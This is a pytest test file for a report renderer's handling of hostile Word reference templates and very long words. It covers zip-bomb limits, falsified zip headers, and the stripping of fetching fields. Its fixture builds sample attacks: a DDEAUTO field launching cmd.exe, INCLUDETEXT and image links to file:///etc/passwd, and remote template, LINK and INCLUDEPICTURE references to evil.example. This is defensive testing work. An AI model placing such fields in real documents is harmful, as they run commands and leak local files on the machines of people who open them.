"""Hostile Word templates (--reference-doc) and hostile text for Word and PDF: a reference
document is read within bounds, whatever its zip headers declare; what in it would make Word
fetch something is dropped from the output, with one warning; text whose words are
thousands of characters long gets break opportunities, so that layout stays near linear."""

from __future__ import annotations

import contextlib
import io
import re
import shutil
import struct
import subprocess
import tracemalloc
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest
from conftest import EXAMPLES, Run
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from hrdplan.io import text as io_text
from hrdplan.io.errors import InputError
from hrdplan.render import pdf, reference, word

GHANA = EXAMPLES / "gh-2021-2025.yaml"
TUNISIA = EXAMPLES / "tn-2021-2025.yaml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ZWSP = "\u200b"


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # files named as the user would name them: ref.docx


def plain_docx() -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def rezipped(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The package with each part as `change` gives it (None: as it was)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            content = source.read(item.filename)
            changed = change(item.filename, content)
            target.writestr(item.filename, content if changed is None else changed)
    return out.getvalue()


def replaced(data: bytes, part: str, content: bytes) -> bytes:
    """The package with one part's content replaced."""

    def change(name: str, _: bytes) -> bytes | None:
        return content if name == part else None

    return rezipped(data, change)


def peak_of(action: Callable[[], object]) -> int:
    """The most memory Python held while `action` ran (its bytes objects included)."""
    tracemalloc.start()
    with contextlib.suppress(InputError):
        action()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def refusal(path: Path) -> str:
    with pytest.raises(InputError) as caught:
        reference.read(path)
    [line] = caught.value.lines()
    return line


# Bounds ----------------------------------------------------------------------------------------


def test_a_part_declared_at_a_gibibyte_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    """A .dotx of about a megabyte whose media part inflates to 1 GiB: refused from its
    declared size, nothing inflated."""
    dotx = rezipped(
        plain_docx(),
        lambda name, content: (
            content.replace(reference.DOCUMENT_TYPE, reference.TEMPLATE_TYPE)
            if name == "[Content_Types].xml"
            else None
        ),
    )
    path = tmp_path / "ref.dotx"
    with zipfile.ZipFile(io.BytesIO(dotx)) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item.filename))
        media = zipfile.ZipInfo("word/media/image1.png")
        media.compress_type = zipfile.ZIP_DEFLATED
        with target.open(media, "w") as big:
            zeros = bytes(16 * 1024 * 1024)
            for _ in range(64):
                big.write(zeros)
    assert path.stat().st_size < 2 * 1024 * 1024
    line = refusal(path)
    assert line.startswith("ref.dotx: error: its part word/media/image1.png inflates to more than")
    assert peak_of(lambda: reference.read(path)) < 16 * 1024 * 1024


def test_parts_whose_sizes_add_up_beyond_the_bound_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reference, "MAX_INFLATED_BYTES", 20_000)
    path = tmp_path / "ref.docx"
    path.write_bytes(rezipped(plain_docx(), lambda _, __: None))
    assert "inflate to" in refusal(path)


def test_a_header_that_understates_a_part_does_not_beat_the_bound(tmp_path: Path) -> None:
    """[Content_Types].xml declared at 1,000 bytes but inflating to 200 MB: read no further
    than declared (then refused: the part is not what its header says)."""
    data = rezipped(
        plain_docx(),
        lambda name, content: (
            content + b" " * (200 * 1024 * 1024) if name == "[Content_Types].xml" else None
        ),
    )
    lying = bytearray(data)
    name = b"[Content_Types].xml"
    central = lying.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", lying, central + 28)[0]
        if lying[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", lying, central + 24, 1000)
            local = struct.unpack_from("<I", lying, central + 42)[0]
            struct.pack_into("<I", lying, local + 22, 1000)
        central = lying.find(b"PK\x01\x02", central + 4)
    path = tmp_path / "ref.docx"
    path.write_bytes(bytes(lying))
    assert refusal(path).startswith("ref.docx: error: not a Word document (.docx)")
    assert peak_of(lambda: reference.read(path)) < 16 * 1024 * 1024


def test_a_zip_of_too_many_parts_is_refused_from_its_directory(tmp_path: Path) -> None:
    path = tmp_path / "ref.docx"
    with zipfile.ZipFile(path, "w") as target:
        for index in range(reference.MAX_PARTS + 1):
            target.writestr(f"p{index}", b"")
    assert "parts, over the limit" in refusal(path)


def test_a_main_part_that_is_not_wordprocessingml_is_one_line(cli: Run, tmp_path: Path) -> None:
    for content in (b"<html><body>hello</body></html>", b"<w:document xmlns:w='%s'/>" % W.encode()):
        path = tmp_path / "ref.docx"
        path.write_bytes(replaced(plain_docx(), "word/document.xml", content))
        result = cli("render", GHANA, "--format", "docx", "--out", "out", "--reference-doc", path)
        assert result.code == 2
        assert result.stderr.splitlines() == [
            "ref.docx: error: not a Word document (.docx): word/document.xml is not a "
            "WordprocessingML document"
        ]
        assert not (tmp_path / "out").exists()


def test_a_part_that_is_not_xml_is_one_line(tmp_path: Path) -> None:
    for part, message in (
        ("word/styles.xml", "Word cannot be read from it"),
        ("word/_rels/document.xml.rels", "its part word/_rels/document.xml.rels is not XML"),
    ):
        path = tmp_path / "ref.docx"
        path.write_bytes(replaced(plain_docx(), part, b"External"))
        assert refusal(path) == f"ref.docx: error: not a Word document (.docx): {message}"


# Nothing fetched when the document is opened ---------------------------------------------------

EVIL = "http://evil.example"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)


def fetching_reference(path: Path) -> Path:
    """A template with an attached template at http://, a header hyperlink and a header picture
    at file:///etc/passwd, INCLUDETEXT, DDEAUTO and LINK fields in the header, an
    INCLUDEPICTURE field in the body: 7 things that fetch. And a PAGE field, which stays."""
    document = docx.Document()
    settings = document.part.part_related_by(RT.SETTINGS)
    template = settings.relate_to(f"{EVIL}/t.dotm", ATTACHED_TEMPLATE, is_external=True)
    document.settings.element.insert(
        0, parse_xml(f'<w:attachedTemplate xmlns:w="{W}" xmlns:r="{R}" r:id="{template}"/>')
    )
    header = document.sections[0].header
    part = header.part
    link = part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    image = part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    ns = f'xmlns:w="{W}" xmlns:r="{R}"'
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'

    def complex_field(instruction: str) -> str:
        return (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>cached</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )

    header.paragraphs[0]._p.addnext(
        parse_xml(
            f"<w:p {ns} {vml}>"
            f'<w:hyperlink r:id="{link}"><w:r><w:t>secrets</w:t></w:r></w:hyperlink>'
            f'<w:r><w:pict><v:shape><v:imagedata r:id="{image}"/></v:shape></w:pict></w:r>'
            f'<w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; ">'
            "<w:r><w:t>included</w:t></w:r></w:fldSimple>"
            + complex_field('ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')
            + complex_field(f'LINK Excel.Sheet.8 "{EVIL}/book.xls" "Sheet1!R1C1" \\a')
            + '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
            "</w:p>"
        )
    )
    picture = complex_field(f"INCLUDEPICTURE &quot;{EVIL}/p.png&quot; \\d")
    document.element.body.insert(0, parse_xml(f"<w:p {ns}>{picture}</w:p>"))
    document.save(str(path))
    return path


def package_texts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


def test_what_would_fetch_is_dropped_and_said_once(cli: Run, tmp_path: Path) -> None:
    template = fetching_reference(tmp_path / "ref.docx")
    result = cli(
        "render", GHANA, TUNISIA, "--format", "docx", "--out", "out", "--reference-doc", template
    )
    assert result.code == 0, result.stderr
    assert result.stderr.splitlines() == [
        "ref.docx: warning: 7 external links of the reference document dropped "
        "(Word would fetch them)"
    ]
    for made in ("gh-2021-2025.docx", "tn-2021-2025.docx"):
        texts = package_texts(tmp_path / "out" / made)
        everything = "\n".join(texts.values())
        assert "evil.example" not in everything
        assert "/etc/passwd" not in everything
        assert "attachedTemplate" not in texts["word/settings.xml"]
        for name, text in texts.items():
            if name.endswith(".rels"):
                for rel in re.findall(r"<Relationship [^>]*>", text):
                    if "External" in rel:  # only the strategy's own links, to the web
                        assert RT.HYPERLINK in rel, rel
                        assert re.search(r'Target="(https?|mailto):', rel), rel
            elif name.endswith(".xml"):
                instructions = re.findall(r'w:instr="([^"]*)"|<w:instrText[^>]*>([^<]*)<', text)
                for found in instructions:
                    words = "".join(found).split()
                    assert not words or words[0].upper() not in reference.FETCHING_FIELDS
        headers = [t for n, t in texts.items() if re.fullmatch(r"word/header\d+\.xml", n)]
        assert any('w:instr=" PAGE "' in t for t in headers)  # a harmless field stays
        assert any("secrets" in t and "included" in t for t in headers)  # the text stays
        document = docx.Document(str(tmp_path / "out" / made))
        assert "Ghana" in document.core_properties.title or "Tunisia" in (
            document.core_properties.title
        )


def test_a_clean_reference_gives_no_warning(cli: Run, tmp_path: Path) -> None:
    path = tmp_path / "ref.docx"
    path.write_bytes(plain_docx())
    result = cli("render", GHANA, "--format", "docx", "--out", "out", "--reference-doc", path)
    assert result.code == 0
    assert result.stderr == ""


def test_a_field_named_by_a_field_inside_it_is_dropped(tmp_path: Path) -> None:
    """{ {QUOTE "INCLUDEPICTURE"} "http://..." }: the field's name is not known until Word
    updates it."""
    inner = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> QUOTE "INCLUDEPICTURE" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    body = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}'
        f'<w:r><w:instrText> "{EVIL}/p.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    path = tmp_path / "ref.docx"
    path.write_bytes(
        rezipped(
            plain_docx(),
            lambda name, content: (
                content.replace(b"<w:body>", b"<w:body>" + body.encode())
                if name == "word/document.xml"
                else None
            ),
        )
    )
    found = reference.read(path)
    assert found.dropped == 1
    assert found.warning == (
        "ref.docx: warning: 1 external link of the reference document dropped (Word would fetch it)"
    )


# Scale -----------------------------------------------------------------------------------------


def test_many_styles_are_each_looked_up_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A reference document of 5,000 styles: python-docx searches every style for a style by
    name and for the default style; hrdplan asks each once, not once per paragraph."""
    document = docx.Document()
    styles = document.styles.element
    for index in range(5000):
        styles.append(
            parse_xml(
                f'<w:style xmlns:w="{W}" w:type="paragraph" w:customStyle="1" '
                f'w:styleId="Org{index}"><w:name w:val="Org {index}"/></w:style>'
            )
        )
    out = io.BytesIO()
    document.save(out)
    calls = {"default": 0, "name": 0}
    styles_class: Any = docx.styles.styles.Styles
    default, by_name = styles_class.default, styles_class.__getitem__

    def counted_default(self: Any, kind: Any) -> Any:
        calls["default"] += 1
        return default(self, kind)

    def counted_name(self: Any, name: str) -> Any:
        calls["name"] += 1
        return by_name(self, name)

    monkeypatch.setattr(styles_class, "default", counted_default)
    monkeypatch.setattr(styles_class, "__getitem__", counted_name)
    items = "".join(
        f"<h2 id='s{i}'>Part {i}</h2><p>Text {i} <code>c</code> <a href='#s{i}'>here</a></p>"
        f"<ol><li>one</li></ol><blockquote><p>q</p></blockquote>"
        f"<table><tr><th>a</th><td>b</td></tr></table>"
        for i in range(200)
    )
    made = docx.Document(
        io.BytesIO(word.from_html(f"<html><body>{items}</body></html>", reference=out.getvalue()))
    )
    assert calls["default"] <= 4  # paragraph, character, table
    assert calls["name"] <= 20  # each style name hrdplan uses, once
    assert len(made.styles) >= 5000
    # Read back by style id: `paragraph.style` searches all 5,000 styles for the default one
    # of every paragraph without a style, a minute for this document.
    used = Counter(style.get(f"{{{W}}}val") for style in made.element.body.iter(f"{{{W}}}pStyle"))
    assert used[made.styles["Heading 1"].style_id] == 200
    assert used[made.styles["Quote"].style_id] == 200


# Long words ------------------------------------------------------------------------------------


def test_long_words_get_break_opportunities_that_keep_their_characters() -> None:
    word_ = "x" * 5000
    broken = io_text.break_long_words(f"short {word_} words")
    pieces = broken.split()[1].split(ZWSP)
    assert broken.split()[0] == "short" and broken.split()[2] == "words"
    assert all(len(p) == io_text.LONG_WORD for p in pieces[:-1])
    assert "".join(pieces) == word_
    assert io_text.break_long_words("a" * io_text.LONG_WORD) == "a" * io_text.LONG_WORD


def test_a_long_word_in_a_word_table_cell_has_break_opportunities() -> None:
    long = "y" * 10_000
    html = f"<html><body><table><tr><th>a</th><td>{long}</td></tr></table><p>{long}</p></body>"
    made = docx.Document(io.BytesIO(word.from_html(html)))
    cell = made.tables[0].rows[0].cells[1].text
    assert cell.count(ZWSP) == len(long) // io_text.LONG_WORD - 1
    assert cell.replace(ZWSP, "") == long
    assert any(p.text.replace(ZWSP, "") == long and ZWSP in p.text for p in made.paragraphs)


def test_a_table_row_longer_than_a_page_may_split() -> None:
    """Rows are kept on one page, unless their text could not fit on one: Word and LibreOffice
    lay a table out again and again for a row taller than a page that may not split."""
    long = "t " * 20_000
    html = (
        "<html><body><table><tr><th>a</th><td>short</td></tr>"
        f"<tr><th>b</th><td>{long}</td></tr></table></body>"
    )
    made = docx.Document(io.BytesIO(word.from_html(html)))
    short_row, long_row = made.tables[0].rows
    assert short_row._tr.trPr.find(f"{{{W}}}cantSplit") is not None
    assert long_row._tr.trPr is None or long_row._tr.trPr.find(f"{{{W}}}cantSplit") is None


def test_long_words_in_the_pdf_html_are_broken_in_the_text_only() -> None:
    long = "z" * 120
    html = (
        f"<html><head><style>.{long} {{}}</style></head><body><p class='{long}'>"
        f"{'&amp;' * 60} {long}</p><svg><text>{long}</text></svg><!-- {long} --></body></html>"
    )
    broken = pdf.with_word_breaks(html)
    assert broken.count("<wbr>") == 3  # two in the long word, one among the entities
    assert f"<style>.{long}" in broken and f"class='{long}'" in broken
    assert f"<text>{long}</text>" in broken and f"<!-- {long} -->" in broken
    assert broken.replace("<wbr>", "") == html


def _weasyprint_usable() -> bool:
    try:
        import weasyprint  # noqa: F401
    except (ImportError, OSError):
        return False
    return True


@pytest.mark.pdf
@pytest.mark.skipif(
    not _weasyprint_usable() or shutil.which("pdftotext") is None,
    reason="WeasyPrint (pip install '.[pdf]') or pdftotext (poppler-utils) not installed",
)
def test_a_pdf_of_long_words_is_laid_out_and_copies_back_as_the_words(tmp_path: Path) -> None:
    """100,000 characters without a space in a table cell (minutes without the breaks); the
    text read back from the PDF has the characters and no zero-width spaces."""
    long = "w" * 100_000
    short = "v" * 300
    html = (
        "<html><body><table><tr><th>a</th><td>"
        f"{long}</td><td>b</td></tr></table><p>{short}</p></body></html>"
    )
    path = tmp_path / "long.pdf"
    path.write_bytes(pdf.from_html(html))
    text = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, check=True, timeout=60
    ).stdout.decode()
    assert ZWSP not in text
    assert "".join(text.split()).count("w") == len(long)
    assert short in "".join(text.split())
